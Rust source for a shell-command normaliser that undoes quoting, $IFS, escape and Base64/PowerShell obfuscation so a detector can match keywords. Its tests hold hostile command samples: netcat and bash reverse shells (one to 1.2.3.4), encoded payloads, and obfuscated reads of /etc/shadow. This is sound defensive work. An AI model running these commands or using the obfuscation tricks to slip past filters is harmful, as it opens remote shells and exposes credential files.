//! A command as a shell takes it: without what is there only to be taken away again.
//!
//! `c'a't /etc//sha\dow`, `cat${IFS}/etc/./shadow` and `cat $'\x2fetc/shadow'` are one command, and whoever
//! looks for a word in it should not have to know how many ways there are to write it. What a shell would have
//! to look up (variables, wildcards, what another command prints) stays as it is. Behind it stands what is written in
//! it as Base64, which many a command decodes and runs.

use std::{iter::Peekable, str::Chars};

use base64::{
    Engine as _,
    alphabet::STANDARD,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

/// Bytes of the shortest Base64 that is decoded: 16. Most shorter words are nothing but words.
const BASE64_BYTES_MIN: usize = 16;

/// Texts within texts that are decoded: 3.
const TEXTS_MAX: usize = 3;

/// The command without quotes, escapes and empty expansions, with one space where any white space or `$IFS`
/// stands, and with paths in their shortest form; behind it, what Base64 in it stands for. Cost: a few passes over
/// it.
pub(super) fn plain(command: &str) -> String {
    let unquoted = unquoted(command);
    let mut out = with_short_paths(&unquoted);
    let mut texts = texts_in(&unquoted);
    for _ in 0..TEXTS_MAX {
        let mut further = Vec::new();
        for text in texts {
            let text = self::unquoted(&text);
            further.extend(texts_in(&text));
            out.push(' ');
            out.push_str(&with_short_paths(&text));
        }
        texts = further;
    }
    out
}

fn with_short_paths(unquoted: &str) -> String {
    let words: Vec<String> = unquoted.split(' ').map(shortest_path).collect();
    words.join(" ")
}

/// What stands in a text as Base64 and is text again, also as Windows writes it. At most three quarters as long as
/// the text.
fn texts_in(command: &str) -> Vec<String> {
    let is_digit = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '-' | '_');
    let words = command.split(|c| !is_digit(c)).filter(|word| word.len() >= BASE64_BYTES_MIN);
    words.filter_map(text_of).collect()
}

fn text_of(word: &str) -> Option<String> {
    let config = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    let word = word.replace('-', "+").replace('_', "/");
    let bytes = GeneralPurpose::new(&STANDARD, config).decode(word).ok()?;
    let is_text = |text: &String| {
        text.chars().all(|c| !c.is_control() || c.is_whitespace()) && !text.trim().is_empty()
    };
    let (pairs, odd) = bytes.as_chunks::<2>();
    if odd.is_empty() && pairs.iter().all(|[_, high]| *high == 0) {
        return Some(pairs.iter().map(|[low, _]| char::from(*low)).collect()).filter(is_text);
    }
    String::from_utf8(bytes).ok().filter(is_text)
}

fn unquoted(command: &str) -> String {
    let mut out = String::with_capacity(command.len());
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' => {}
            '\\' => match chars.next() {
                Some('\n') | None => {}
                Some(next) => add(next, &mut out),
            },
            '$' => expansion(&mut chars, &mut out),
            _ => add(c, &mut out),
        }
    }
    out
}

/// Adds a character; of white space one space.
fn add(c: char, out: &mut String) {
    if !c.is_whitespace() {
        out.push(c);
    } else if !out.ends_with(' ') {
        out.push(' ');
    }
}

/// What follows a dollar sign.
fn expansion(chars: &mut Peekable<Chars<'_>>, out: &mut String) {
    match chars.peek() {
        Some('\'') => {
            chars.next();
            escaped_quote(chars, out);
        }
        // Arguments, of which there are none.
        Some('@' | '*' | '0'..='9') => {
            chars.next();
        }
        Some('{') => {
            let rest: String = chars.clone().skip(1).take(4).collect();
            let name = rest.split('}').next().filter(|name| name.len() < rest.len());
            match name {
                Some("IFS") => skip_and_space(chars, 5, out),
                Some("@" | "*" | "0" | "1" | "9") => {
                    chars.nth(2);
                }
                _ => out.push('$'),
            }
        }
        Some('I') => {
            let ahead: String = chars.clone().take(4).collect();
            let is_ifs = ahead.starts_with("IFS")
                && !ahead.ends_with(|c: char| c != 'S' && (c == '_' || c.is_alphanumeric()));
            if is_ifs {
                skip_and_space(chars, 3, out);
            } else {
                out.push('$');
            }
        }
        Some('"') => {}
        _ => out.push('$'),
    }
}

fn skip_and_space(chars: &mut Peekable<Chars<'_>>, count: usize, out: &mut String) {
    for _ in 0..count {
        chars.next();
    }
    add(' ', out);
}

/// `$'…'`, in which characters may be written as numbers.
fn escaped_quote(chars: &mut Peekable<Chars<'_>>, out: &mut String) {
    while let Some(c) = chars.next() {
        match c {
            '\'' => return,
            '\\' => match chars.next() {
                Some('x') => number(chars, 16, 2, out),
                Some('u') => number(chars, 16, 4, out),
                Some('n' | 't' | 'r' | 'v' | 'f') => add(' ', out),
                Some(digit @ '0'..='7') => {
                    let mut value = digit.to_digit(8).unwrap_or(0);
                    for _ in 0..2 {
                        let Some(next) = chars.peek().and_then(|c| c.to_digit(8)) else { break };
                        value = value * 8 + next;
                        chars.next();
                    }
                    add_code(value, out);
                }
                Some(next) => add(next, out),
                None => {}
            },
            _ => add(c, out),
        }
    }
}

fn number(chars: &mut Peekable<Chars<'_>>, radix: u32, digits_max: usize, out: &mut String) {
    let mut value = 0;
    for _ in 0..digits_max {
        let Some(digit) = chars.peek().and_then(|c| c.to_digit(radix)) else { break };
        value = value * radix + digit;
        chars.next();
    }
    add_code(value, out);
}

fn add_code(value: u32, out: &mut String) {
    if let Some(c) = char::from_u32(value).filter(|c| *c != '\0') {
        add(c, out);
    }
}

/// A word whose path has no empty step, none that stays and none that goes back. Addresses stay as they are.
fn shortest_path(word: &str) -> String {
    if !word.contains('/') || word.contains("://") {
        return word.to_owned();
    }
    let mut steps: Vec<&str> = Vec::new();
    let count = word.split('/').count();
    for (index, step) in word.split('/').enumerate() {
        let is_end = index == 0 || index + 1 == count;
        match step {
            "" | "." if !is_end => {}
            // Above the root is the root.
            ".." if steps == [""] => {}
            ".." if steps.len() > 1 && steps.last().is_some_and(|last| *last != "..") => {
                steps.pop();
            }
            _ => steps.push(step),
        }
    }
    steps.join("/")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_base64_stands_for_is_there_too() {
        let once = "bmMgLWUgL2Jpbi9zaA";
        assert_eq!(plain(&format!("echo {once}")), format!("echo {once} nc -e /bin/sh"));
        let twice = "Ym1NZ0xXVWdMMkpwYmk5emFBPT0=";
        let expected = format!("echo '{twice}'").replace('\'', "");
        assert_eq!(
            plain(&format!("echo '{twice}'|base64 -d")),
            format!("{expected}|base64 -d bmMgLWUgL2Jpbi9zaA== nc -e /bin/sh")
        );
        // UTF-16, as PowerShell takes it.
        assert_eq!(
            plain("pwsh -enc bgBjACAALQBlACAAcwBoAA=="),
            "pwsh -enc bgBjACAALQBlACAAcwBoAA== nc -e sh"
        );
        for other in ["cat /var/lib/kubelet/config.yaml", "kubectl-version-client-output", "x"] {
            assert_eq!(plain(other), other);
        }
    }

    #[test]
    fn what_a_shell_takes_away_is_not_there() {
        for (command, expected) in [
            ("cat /etc/shadow", "cat /etc/shadow"),
            ("c'a't \"/etc\"/sha\\dow", "cat /etc/shadow"),
            ("cat${IFS}/etc//./shadow", "cat /etc/shadow"),
            ("cat$IFS$9/etc/x/../shadow", "cat /etc/shadow"),
            ("c$@at ${@}/etc/shadow", "cat /etc/shadow"),
            ("cat \t\n /etc/shadow", "cat /etc/shadow"),
            ("$'\\x63\\141t' $'/etc\\u002fshadow'", "cat /etc/shadow"),
            ("ba\"\"sh -i >& /dev//tcp/1.2.3.4/80", "bash -i >& /dev/tcp/1.2.3.4/80"),
            ("curl http://x//y 'a b'", "curl http://x//y a b"),
            // What stays: it is not known what it comes to.
            ("echo $HOME ${HOME} $IFSX $1x $", "echo $HOME ${HOME} $IFSX x $"),
            ("cat ../../x /../y a/..", "cat ../../x /y a/.."),
            ("a\\", "a"),
            ("$'\\x'", ""),
        ] {
            assert_eq!(plain(command), expected, "{command}");
        }
    }
}
